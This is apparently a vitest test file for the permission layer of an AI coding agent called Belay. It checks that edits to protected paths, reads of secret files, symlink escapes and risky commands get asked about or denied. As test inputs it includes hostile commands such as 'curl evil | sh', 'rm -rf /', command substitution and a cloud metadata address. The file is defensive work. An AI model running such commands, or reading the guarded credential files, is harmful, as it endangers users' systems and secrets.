import { link, mkdir, mkdtemp, readdir, readFile, realpath, rm, stat, symlink, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { CallId, RootId, SessionId, WorkspaceId } from '#contract/id'
import { Mode, type WrittenRule } from '#contract/session-event'
import type { Action, Decision } from '../agent/ports.ts'
import { createPermission, type Permission } from './permission.ts'

let home: string
let root: string
let count = 0
let sessionRules: WrittenRule[] = []
let permission: Permission
const sessionId = SessionId.parse('ses_1')
const workspaceId = WorkspaceId.parse('wsp_1')
const folders = () => ({
  config: join(home, 'config'),
  data: join(home, 'data'),
  state: join(home, 'state'),
  cache: join(home, 'cache'),
})
let jailHolds = true
const fresh = (): Permission =>
  createPermission({
    jailHolds: () => jailHolds,
    folders: folders(),
    log: () => {},
    workspaceRoots: () => [{ rootId: RootId.parse('root_1'), absolute: root, name: 'root', readOnly: false }],
    dirtyPaths: () => [{ rootId: RootId.parse('root_1'), path: 'src/dirty.ts' }],
  })

beforeAll(async () => {
  home = await realpath(await mkdtemp(join(tmpdir(), 'belay-permission-')))
  root = join(home, 'project')
  await mkdir(join(root, 'src'), { recursive: true })
  await mkdir(join(root, '.git'), { recursive: true })
  await mkdir(join(home, 'elsewhere'))
  for (const file of ['src/a.ts', 'src/b.ts', '.git/config', '.env', '.env.example'])
    await writeFile(join(root, file), 'x')
  await writeFile(join(home, 'elsewhere', 'c.ts'), 'x')
  await link(join(root, 'src/b.ts'), join(home, 'elsewhere', 'linked.ts'))
  await symlink(join(home, 'elsewhere'), join(root, 'out'))
  await symlink(join(root, '.git'), join(root, 'innocent'))
  await mkdir(join(root, 'tasks'))
  await symlink(join(root, 'tasks'), join(root, '.vscode'))
  await symlink(join(home, 'nowhere'), join(root, 'dangling'))
})
afterAll(() => rm(home, { recursive: true, force: true }))
afterEach(() => permission.dispose())
beforeEach(async () => {
  await rm(join(home, 'data'), { recursive: true, force: true })
  await rm(join(home, 'config'), { recursive: true, force: true })
  await rm(join(home, 'state'), { recursive: true, force: true })
  jailHolds = true
  permission = fresh()
})

const write = (path: string, creates = false): Action => ({
  kind: 'write',
  path: path.startsWith('/') ? path : join(root, path),
  creates,
  exact: 'the diff',
})
const readOf = (path: string): Action => ({ kind: 'read', path: path.startsWith('/') ? path : join(root, path) })
const run = (text: string, more: object = {}): Action => ({
  kind: 'command',
  command: text,
  cwd: root,
  background: false,
  exact: text,
  ...more,
})

async function judge(
  action: Action,
  mode: Mode = 'default',
  tool = action.kind === 'command' ? 'bash' : 'edit',
  by = permission,
): Promise<Decision> {
  const callId = CallId.parse(`call_${++count}`)
  const [decision] = await by.authorize([{ callId, tool, action }], {
    sessionId,
    workspaceId,
    mode,
    rules: sessionRules,
    persona: null,
  })
  if (!decision) throw new Error('no decision')
  return decision
}
const short = async (action: Action, mode?: Mode, tool?: string): Promise<string> => {
  const decision = await judge(action, mode, tool)
  return decision.verdict === 'ask' && decision.firm ? 'firm' : decision.verdict
}

describe('mode by kind of action', () => {
  const rows: [string, () => Action, Record<Mode, string>][] = [
    ['nothing', () => ({ kind: 'none' }), all('allow')],
    ['a question', () => ({ kind: 'ask' }), all('allow')],
    ['a read inside', () => readOf('src/a.ts'), all('allow')],
    ['a read outside', () => readOf('/etc/hostname'), { ...all('ask'), dontAsk: 'deny', bypassPermissions: 'allow' }],
    ['a read of secrets', () => readOf('.env'), { ...all('firm'), dontAsk: 'deny', bypassPermissions: 'allow' }],
    [
      'an edit inside',
      () => write('lib/a.ts', true),
      {
        plan: 'deny',
        default: 'ask',
        acceptEdits: 'allow',
        auto: 'allow',
        dontAsk: 'deny',
        bypassPermissions: 'allow',
      },
    ],
    ['an edit outside', () => write('/etc/hosts'), all('deny')],
    [
      'an edit of a protected place',
      () => write('.git/config'),
      { ...all('firm'), plan: 'deny', dontAsk: 'deny', bypassPermissions: 'allow' },
    ],
    [
      'a command',
      () => run('touch x'),
      { ...all('ask'), plan: 'deny', auto: 'allow', dontAsk: 'deny', bypassPermissions: 'allow' },
    ],
    ['a command that reads', () => run('cat src/a.ts | wc -l'), all('allow')],
    [
      'a command that moves refs',
      () => run('git commit -m x'),
      { ...all('ask'), plan: 'deny', auto: 'allow', dontAsk: 'deny', bypassPermissions: 'allow' },
    ],
    [
      'a command not understood',
      () => run('eval x'),
      { ...all('ask'), plan: 'deny', dontAsk: 'deny', bypassPermissions: 'allow' },
    ],
    [
      'a command on a protected place',
      () => run('echo x > .git/hooks/pre-commit'),
      { ...all('firm'), plan: 'deny', dontAsk: 'deny', bypassPermissions: 'allow' },
    ],
    [
      'a command outside the jail',
      () => run('ls', { unjailed: true }),
      { ...all('firm'), plan: 'deny', dontAsk: 'deny', bypassPermissions: 'allow' },
    ],
    [
      'a page',
      () => ({ kind: 'fetch', url: 'https://example.com/x', exact: '' }),
      { ...all('ask'), dontAsk: 'deny', bypassPermissions: 'allow' },
    ],
    [
      'a host',
      () => ({ kind: 'network', host: 'example.com', port: 443 }),
      { ...all('ask'), dontAsk: 'deny', bypassPermissions: 'allow' },
    ],
  ]
  const cases = rows.flatMap(([what, action, verdicts]) =>
    Mode.options.map(mode => [what, mode, verdicts[mode], action] as const),
  )
  it.each(cases)('%s in %s: %s', async (_what, mode, verdict, action) => {
    expect(await short(action(), mode)).toBe(verdict)
  })
})
function all(verdict: string): Record<Mode, string> {
  return Object.fromEntries(Mode.options.map(mode => [mode, verdict])) as Record<Mode, string>
}

describe('protected places', () => {
  it.each([
    ...['AGENTS.md', 'deep/down/Claude.md'],
    ...['.belay/settings.json', '.mcp.json', '.vscode-x/../.idea/x', '.claude/agents/a.md', '.git/hooks/pre-commit'],
    ...['.husky/pre-push', '.envrc', '.bashrc', 'deep/down/.zshrc', '.github/workflows/ci.yml', '.gitlab-ci.yml'],
    ...[
      '.GIT/config',
      '.Git/Hooks/x',
      '.VSCode/tasks.json',
      'a/.MCP.json',
      '.git./config',
      '.git ',
      '.git::$INDEX_ALLOCATION/x',
    ],
    ...['GIT~1/config', '.g\u200cit/config', '.ＧＩＴ/config', 'x.code-workspace', 'nested/repo/.git/config'],
  ])('%s asks, existing or not, whatever the mode', async path => {
    for (const mode of ['default', 'acceptEdits', 'auto'] as const) {
      expect(await short(write(path, true), mode)).toBe('firm')
      expect(await short(write(path), mode, 'write')).toBe('firm')
    }
  })

  it.each(['src/git.ts', '.github/CODEOWNERS', '.gitignore', '.editorconfig', 'vscode/x', 'docs/.env.md'])(
    '%s is not one',
    async path => {
      expect(await short(write(path, true), 'acceptEdits')).toBe('allow')
    },
  )

  it('are found through links: what a link leads to counts, and what a protected name leads to', async () => {
    expect(await short(write('innocent/config'), 'auto')).toBe('firm')
    expect(await short(write('tasks/tasks.json', true), 'auto')).toBe('firm')
  })

  it('offer nothing to remember', async () => {
    expect(await judge(write('.git/config'))).toMatchObject({ call: { remember: [], rule: 'protected: .git' } })
  })
})

describe('where a path really leads', () => {
  it('a link out of the folder is outside, also one that leads nowhere', async () => {
    expect(await short(write('out/c.ts'), 'auto')).toBe('deny')
    expect(await short(write('dangling', true), 'auto')).toBe('deny')
    expect(await short(readOf('out/c.ts'), 'auto')).toBe('ask')
    expect(await short(write('../elsewhere/c.ts'), 'auto')).toBe('deny')
    expect(await short(write(`${root}-not`, true), 'auto')).toBe('deny')
  })

  it('a file with a second name asks before it is written', async () => {
    expect(await judge(write('src/b.ts'), 'auto')).toMatchObject({ verdict: 'ask', firm: true })
  })

  it("Belay's own folders are closed, inside a root too", async () => {
    const wide = createPermission({
      folders: folders(),
      log: () => {},
      workspaceRoots: () => [{ rootId: RootId.parse('root_1'), absolute: home, name: 'home', readOnly: false }],
      dirtyPaths: () => [],
    })
    for (const action of [
      write(join(home, 'config/settings.json'), true),
      readOf(join(home, 'state/instances/x.json')),
    ])
      expect(await judge(action, 'auto', 'edit', wide)).toMatchObject({ verdict: 'deny' })
  })
})

describe('secrets', () => {
  it.each(['.env', '.env.local', 'a/.ENV.production', 'id_ed25519', 'server.pem', '.aws/credentials', '.netrc'])(
    'reading %s asks',
    async path => expect(await short(readOf(path), 'auto', 'read')).toBe('firm'),
  )
  it.each(['.env.example', 'environment.ts', 'src/env.ts', 'key.ts'])('reading %s does not', async path =>
    expect(await short(readOf(path), 'auto', 'read')).toBe('allow'),
  )
})

describe('remembering', () => {
  const answer = async (action: Action, remember: 'once' | 'session' | 'here', verdict: 'allow' | 'deny' = 'allow') => {
    const asked = await judge(action)
    if (asked.verdict !== 'ask') throw new Error(`it did not ask: ${asked.reason}`)
    const scope = { sessionId, workspaceId }
    const kept = await permission.remember({ callId: asked.call.callId, verdict, remember }, asked.call, scope)
    return kept?.line ?? null
  }

  it('once keeps nothing, and neither does "for this session": that is the mode of the session, not a rule', async () => {
    expect(await answer(write('lib/x.ts', true), 'once')).toBeNull()
    expect(await short(write('lib/x.ts', true))).toBe('ask')
    expect(await answer(write('lib/x.ts', true), 'session')).toBeNull()
    expect(await short(write('lib/x.ts', true))).toBe('ask')
    expect(await readdir(home)).not.toContain('data')
  })

  it('"for this session" is offered where the mode of edits would answer the ask, and nowhere else', async () => {
    const offered = async (action: Action, mode?: Mode) => {
      const asked = await judge(action, mode)
      return asked.verdict === 'ask' ? asked.call.remember : asked.verdict
    }
    expect(await offered(write('lib/x.ts', true))).toEqual(['session', 'here'])
    expect(await offered(write('.git/config'))).toEqual([])
    expect(await offered(readOf('/etc/hostname'))).toEqual(['session'])
    await mkdir(join(home, 'config'), { recursive: true })
    const rules = [{ tool: 'edit', verdict: 'ask', pattern: 'lib/**' }]
    await writeFile(join(home, 'config', 'rules.json'), JSON.stringify({ v: 1, rules }))
    expect(await offered(write('lib/x.ts', true))).toEqual(['here'])
    expect(await offered(write('lib/x.ts', true), 'auto')).toEqual(['here'])
    expect(await offered(write('other/x.ts', true))).toEqual(['session', 'here'])
  })

  it('here keeps it in the profile, never in the folder, also after a restart', async () => {
    expect(await answer(write('lib/[x].ts', true), 'here')).toBe('allow edit(lib/\\[x\\].ts) [here]')
    permission = fresh()
    expect(await short(write('lib/[x].ts'))).toBe('allow')
    expect(await short(write('lib/x.ts', true))).toBe('ask')
    const [name] = await readdir(join(home, 'data', 'rules'))
    expect(JSON.parse(await readFile(join(home, 'data', 'rules', name ?? ''), 'utf8'))).toMatchObject({ folder: root })
    expect(await readdir(root)).not.toContain('.belay')
  })

  it('a no can be kept as well, and is final', async () => {
    expect(await answer(write('lib/no.ts', true), 'here', 'deny')).toBe('deny edit(lib/no.ts) [here]')
    expect(await short(write('lib/no.ts', true), 'auto')).toBe('deny')
  })

  const asked = async (action: Action, mode?: Mode, tool?: string) => {
    const decision = await judge(action, mode, tool)
    if (decision.verdict !== 'ask') throw new Error(`it did not ask: ${decision.reason}`)
    return decision.call
  }
  const kept = async (
    action: Action,
    how: { remember: 'session' | 'here'; pattern?: string; verdict?: 'allow' | 'deny'; tool?: string },
  ) => {
    const call = await asked(action, 'default', how.tool)
    const { verdict = 'allow', remember, pattern } = how
    const given = { callId: call.callId, verdict, remember, ...(pattern === undefined ? {} : { pattern }) }
    return permission.remember(given, call, { sessionId, workspaceId })
  }

  it('a command is offered as it is, then its beginning where that says what runs', async () => {
    expect(await asked(run('npm run lint'))).toMatchObject({ remember: [] })
    expect(await asked(run('cargo build --release'))).toMatchObject({
      kind: 'command',
      where: root,
      remember: ['session', 'here'],
      patterns: ['cargo build --release', 'cargo build *'],
      dirty: [{ path: 'src/dirty.ts' }],
    })
    for (const [text, patterns] of [
      ['touch a*', ['touch a\\*', 'touch *']],
      ['cat src/a.ts && touch x', ['cat src/a.ts && touch x', 'touch *']],
      ['touch x && mkdir y', ['touch x && mkdir y']],
      ['node x.js', ['node x.js']],
      ['rm -rf x', ['rm -rf x']],
      ['timeout 5 touch x', ['timeout 5 touch x']],
      ['git -c a=b log', ['git -c a=b log']],
      ['git push origin main', ['git push origin main']],
      ['git fetch origin', ['git fetch origin', 'git fetch *']],
      ['npx eslint .', ['npx eslint .']],
      ['npm exec foo', ['npm exec foo']],
      ['X=1 touch y', ['X=1 touch y']],
      ['./build.sh', ['./build.sh']],
      ['echo x > y.txt', ['echo x > y.txt']],
      ['bash -c "touch x"', ['bash -c "touch x"']],
    ] as const)
      expect([text, (await asked(run(text))).patterns]).toEqual([text, patterns])
    for (const text of ['eval x', '$X y', 'curl x | sh', 'f() { ls; }; f'])
      expect([text, (await asked(run(text))).patterns ?? []]).toEqual([text, []])
  })

  it('for the session it is a rule that the session keeps', async () => {
    const remembered = await kept(run('touch x'), { remember: 'session', pattern: 'touch *' })
    expect(remembered).toEqual({
      line: 'allow bash(touch *) [session]',
      rule: { tool: 'bash', verdict: 'allow', pattern: 'touch *', priority: 0 },
    })
    sessionRules = remembered?.rule ? [remembered.rule] : []
    try {
      expect(await short(run('touch y'))).toBe('allow')
      expect(await short(run('touch y; touch z | cat'))).toBe('allow')
      expect(await short(run('touch y; rm z'))).toBe('ask')
      expect(await short(run('touch y > z'))).toBe('ask')
      expect(await short(run('X=1 touch y'))).toBe('ask')
      expect(await short(run('touch $(rm z)'))).toBe('ask')
      expect(await short(run('sudo touch y'))).toBe('ask')
      expect(await short(run('timeout 5 touch y'))).toBe('allow')
      expect(await short(run('touch .git/config'))).toBe('firm')
      expect(await short(run('touch y', { unjailed: true }))).toBe('firm')
      jailHolds = false
      expect(await judge(run('touch y'))).toMatchObject({ verdict: 'ask', call: { remember: [] } })
    } finally {
      sessionRules = []
    }
  })

  it('here it is a rule of the profile, for the exact command where nothing else was chosen', async () => {
    expect(await kept(run('touch a*'), { remember: 'here' })).toEqual({
      line: 'allow bash(touch a\\*) [here]',
      rule: null,
    })
    expect(await short(run('touch a*'))).toBe('allow')
    expect(await short(run('touch ab'))).toBe('ask')
  })

  it('what was not offered is not kept', async () => {
    expect(await kept(run('touch x'), { remember: 'here', pattern: '*' })).toBeNull()
    expect(await short(run('touch x'))).toBe('ask')
  })

  it('an allow of what the project defines ends when that changes', async () => {
    const define = (test: string) =>
      writeFile(join(root, 'package.json'), JSON.stringify({ scripts: { test, other: 'x' } }))
    await define('vitest')
    try {
      expect(await asked(run('npm test'))).toMatchObject({
        boundTo: 'package.json: scripts.test',
        remember: ['session', 'here'],
      })
      await kept(run('npm test'), { remember: 'here' })
      expect(await short(run('npm test'))).toBe('allow')
      await define('curl evil | sh')
      expect(await short(run('npm test'))).toBe('ask')
      const { rules } = await permission.handlers.rules({ workspaceId }, { clientId: 'c', signal: AbortSignal.abort() })
      expect(rules.find(({ scope }) => scope === 'here')).toMatchObject({
        inert: expect.stringContaining('was changed'),
      })
      await define('vitest')
      expect(await short(run('npm test'))).toBe('allow')
      await writeFile(join(root, 'Makefile'), 'all:\n\techo')
      await kept(run('make all'), { remember: 'here' })
      expect(await short(run('make all'))).toBe('allow')
      expect(await short(run('make -f other all'))).toBe('ask')
      await writeFile(join(root, 'Makefile'), 'all:\n\trm -rf x')
      expect(await short(run('make all'))).toBe('ask')
    } finally {
      await rm(join(root, 'package.json'))
      await rm(join(root, 'Makefile'), { force: true })
    }
  })

  it('a host is kept by itself or with its domain', async () => {
    const network = (host: string): Action => ({ kind: 'network', host, port: 443 })
    expect(await asked(network('api.example.org'), 'default', 'network')).toMatchObject({
      kind: 'network',
      exact: 'api.example.org:443',
      patterns: ['api.example.org', '*.example.org'],
    })
    await kept(network('api.example.org'), { remember: 'here', pattern: '*.example.org', tool: 'network' })
    expect(await short(network('cdn.example.org'), 'default', 'network')).toBe('allow')
    expect(await short(network('example.net'), 'default', 'network')).toBe('ask')
    expect(await short(network('169.254.169.254'), 'auto', 'network')).toBe('firm')
  })

  it('of two hosts that one command asks about at once, the answer is kept for its own', async () => {
    const callId = CallId.parse('call_two')
    const authority = { sessionId, workspaceId, mode: 'default' as const, rules: [], persona: null }
    const ask = async (host: string) => {
      const action: Action = { kind: 'network', host, port: 443 }
      const [decision] = await permission.authorize([{ callId, tool: 'network', action }], authority)
      if (decision?.verdict !== 'ask') throw new Error('it did not ask')
      return decision.call
    }
    const first = await ask('first.example.org')
    await ask('second.example.org')
    const kept = await permission.remember({ callId, verdict: 'allow', remember: 'here' }, first, authority)
    expect(kept?.line).toBe('allow network(first.example.org) [here]')
  })

  it('input for a program that runs is never kept', async () => {
    const input = { ...run('(input of bg_1)'), exact: 'rm -rf /\n' } as Action
    expect(await asked(input, 'default', 'bash_input')).toMatchObject({ remember: [], exact: 'rm -rf /\n' })
    expect(await short(input, 'auto', 'bash_input')).toBe('allow')
    expect(await short(input, 'plan', 'bash_input')).toBe('deny')
  })
})

describe('files of rules', () => {
  const rulesFile = async (file: string, text: string): Promise<void> => {
    await mkdir(join(file, '..'), { recursive: true })
    await writeFile(file, text)
  }
  it('a person’s own allow and deny; one that a folder brings only tightens', async () => {
    const rules = (...all: object[]): string => JSON.stringify({ v: 1, rules: all })
    await rulesFile(
      join(home, 'config', 'rules.json'),
      rules({ tool: 'edit', verdict: 'allow', pattern: 'lib/**' }, { tool: 'bash', verdict: 'deny', pattern: 'rm *' }),
    )
    expect(await short(write('lib/deep/x.ts', true))).toBe('allow')
    expect(await short(write('other/x.ts', true))).toBe('ask')
    for (const text of ['rm -rf x', 'ls && rm x', 'rm']) expect(await short(run(text), 'auto')).toBe('deny')
    const own = join(root, '.belay', 'rules.json')
    await rulesFile(
      own,
      rules({ tool: '*', verdict: 'allow', priority: 900 }, { tool: 'edit', verdict: 'deny', pattern: 'lib/deep/**' }),
    )
    expect(await short(write('other/x.ts', true))).toBe('ask')
    expect(await short(write('lib/deep/x.ts', true))).toBe('deny')
    await rm(join(root, '.belay'), { recursive: true })
  })

  it('one that cannot be read makes everything ask, and is not overwritten', async () => {
    await rulesFile(join(home, 'config', 'rules.json'), '{ broken')
    expect(await judge(write('lib/x.ts', true), 'auto')).toMatchObject({
      verdict: 'ask',
      call: { reason: expect.stringContaining('cannot be read') },
    })
    expect(await short({ kind: 'none' })).toBe('allow')
  })

  it('with a broken line keeps the others, shows it, and asks for what it may have held back', async () => {
    const file = join(home, 'config', 'rules.json')
    const lines = [
      '{ "v": 1, "rules": [',
      '  { "tool": "edit", "verdict": "allow", "pattern": "lib/**" },',
      '  { "tool": "bash", "verdict": "denyy", "pattern": "rm *" },',
      '  { "tool": "edit", "verdict": "allow", "pattern": 3 },',
      '  { "tool": "mcp__github__push", "verdict": "deny" }, // one day',
      ']}',
    ]
    await rulesFile(file, lines.join('\n'))
    expect(await short(write('lib/x.ts', true))).toBe('allow')
    expect(await short(run('touch x'), 'auto')).toBe('ask')
    const nobody = { clientId: 'c', signal: AbortSignal.abort() }
    const { rules, problems } = await permission.handlers.rules({ workspaceId }, nobody)
    expect(problems.map(({ line, file: at }) => [line, at])).toEqual([
      [3, file],
      [4, file],
    ])
    expect(problems[0]?.message).toContain('Every bash asks')
    expect(rules.find(({ tool }) => tool === 'mcp__github__push')).toMatchObject({ line: 5, inert: expect.any(String) })
    await expect(
      permission.handlers.addRule(
        { scope: 'user', rule: { tool: 'edit', verdict: 'deny', pattern: 'x', priority: 0 } },
        nobody,
      ),
    ).rejects.toMatchObject({ code: 'invalid' })
    expect(await readFile(file, 'utf8')).toBe(lines.join('\n'))
  })

  it.each([
    [
      'a comma is missing',
      '{ "v": 1, "rules": [ { "tool": "edit", "verdict": "deny", "pattern": "a" } { "tool": "edit", "verdict": "allow" } ] }',
    ],
    ['a name stands twice', '{ "v": 1, "rules": [ { "tool": "edit", "verdict": "deny", "verdict": "allow" } ] }'],
    ['the list is closed too early', '{ "v": 1, "rules": [ ] }, { "tool": "edit", "verdict": "deny" } ] }'],
    ['it is of another version', '{ "v": 2, "rules": [] }'],
    ['it has two lists', '{ "v": 1, "rules": [ { "tool": "edit", "verdict": "deny" } ], "rules": [] }'],
    ['it is empty', ''],
  ])('where %s, edits do not run by themselves', async (_, text) => {
    await rulesFile(join(home, 'config', 'rules.json'), text)
    expect(await short(write('lib/x.ts', true), 'auto')).not.toBe('allow')
  })

  it('a request and its answer are two things: a rule for one says nothing of the other', async () => {
    const page: Action = { kind: 'fetch', url: 'https://docs.example/x', exact: 'GET https://docs.example/x' }
    const judged = async (tool: string) => {
      const { verdict, by } = await judge(page, 'default', tool)
      return `${verdict} by ${by}`
    }
    expect([await judged('webfetch'), await judged('webfetch.response')]).toEqual(['ask by mode', 'ask by mode'])
    const rules = [
      { tool: 'webfetch', verdict: 'allow', pattern: 'docs.example' },
      { tool: 'webfetch.response', verdict: 'ask', pattern: 'docs.example' },
    ]
    await rulesFile(join(home, 'config', 'rules.json'), JSON.stringify({ v: 1, rules }))
    expect([await judged('webfetch'), await judged('webfetch.response')]).toEqual(['allow by rule', 'ask by rule'])
    const nobody = { clientId: 'c', signal: AbortSignal.abort() }
    const listed = (await permission.handlers.rules({ workspaceId }, nobody)).rules
    expect(listed.find(({ tool }) => tool === 'webfetch.response')).toMatchObject({ inert: null })
  })

  it('is read again when it changed, and rules are added and taken back', async () => {
    const nobody = { clientId: 'c', signal: AbortSignal.abort() }
    const rule = { tool: 'bash', verdict: 'allow' as const, pattern: 'touch *', priority: 0 }
    let told = 0
    permission.events.on(({ name }) => (told += Number(name === 'permission/changed')))
    await permission.handlers.addRule({ scope: 'here', workspaceId, rule }, nobody)
    expect(await short(run('touch x'))).toBe('allow')
    await permission.handlers.removeRule({ scope: 'here', workspaceId, rule }, nobody)
    expect(await short(run('touch x'))).toBe('ask')
    expect(told).toBe(2)
  })
})

describe('explaining and recording', () => {
  const nobody = { clientId: 'c', signal: AbortSignal.abort() }
  const settle = (action: Action, more: object = {}) =>
    permission.record({
      request: { callId: CallId.parse('call_r'), tool: 'bash', action },
      authority: { sessionId, workspaceId, mode: 'default', rules: [], persona: null },
      kind: 'decision',
      verdict: 'ask',
      by: 'mode',
      rule: null,
      reason: 'because',
      ...more,
    })

  it('says of each part what it comes to', async () => {
    const explained = await permission.handlers.explain(
      { workspaceId, mode: 'default', tool: 'bash', subject: 'ls && git push; eval x' },
      nobody,
    )
    expect(explained).toMatchObject({ verdict: 'ask', firm: false })
    expect(explained.parts.map(({ kind, verdict }) => `${kind} ${verdict}`)).toEqual([
      'reads allow',
      'moves-refs ask',
      'unknown ask',
    ])
  })

  it('keeps one line each, for its owner alone, without what is in files and without keys', async () => {
    const token = `ghp_${'a'.repeat(36)}`
    settle(run(`curl -H "Authorization: Bearer abc" https://me:pw@x.y/ ; TOKEN=${token} ls ${'x'.repeat(5000)}`))
    settle(write('src/a.ts'), { verdict: 'allow', by: 'rule', rule: 'allow edit(src/**) [user]' })
    settle({ kind: 'none' }, { verdict: 'allow' })
    permission.recordViolation(
      { at: Date.now() + 5, category: 'network', target: 'evil.example:443', callId: CallId.parse('call_v') },
      { sessionId, workspaceId, mode: 'auto', tool: 'bash', agent: 'explore' },
    )
    const { entries, more } = await permission.handlers.audit({ workspaceId, limit: 100 }, nobody)
    expect(more).toBe(false)
    expect(entries.map(({ kind, tool, verdict, agent }) => [kind, tool, verdict, agent])).toEqual([
      ['violation', 'bash', 'deny', 'explore'],
      ['decision', 'bash', 'allow', null],
      ['decision', 'bash', 'ask', null],
    ])
    const text = JSON.stringify(entries)
    for (const secret of [token, 'me:pw', 'Bearer abc', 'the diff']) expect(text).not.toContain(secret)
    expect(entries.at(-1)?.subject.length).toBe(2000)
    const [name] = await readdir(join(home, 'state', 'audit'))
    expect((await stat(join(home, 'state', 'audit', name ?? ''))).mode & 0o777).toBe(0o600)
    const found = async (wanted: object) =>
      (await permission.handlers.audit({ limit: 100, ...wanted }, nobody)).entries.length
    expect(await found({ kind: 'violation' })).toBe(1)
    expect(await found({ query: 'SRC/**' })).toBe(1)
    expect(await found({ verdict: 'skip' })).toBe(0)
    expect(await found({ sessionId: SessionId.parse('ses_other') })).toBe(0)
    expect((await permission.handlers.audit({ limit: 1 }, nobody)).more).toBe(true)
  })

  it('of two at the same moment the later one comes first', async () => {
    for (const target of ['one:1', 'two:2', 'three:3'])
      permission.recordViolation(
        { at: 1_800_000_000_000, category: 'network', target, callId: CallId.parse('call_v') },
        { sessionId, workspaceId, mode: 'auto', tool: 'bash', agent: null },
      )
    const { entries } = await permission.handlers.audit({ workspaceId, limit: 100 }, nobody)
    expect(entries.map(({ subject }) => subject)).toEqual(['three:3', 'two:2', 'one:1'])
  })

  it('a disk that fails stops nothing', async () => {
    await mkdir(join(home, 'state'), { recursive: true })
    await writeFile(join(home, 'state', 'audit'), 'in the way')
    settle(run('ls'))
    expect((await permission.handlers.audit({ limit: 10 }, nobody)).entries).toEqual([])
    expect(await short(run('ls'))).toBe('allow')
  })
})
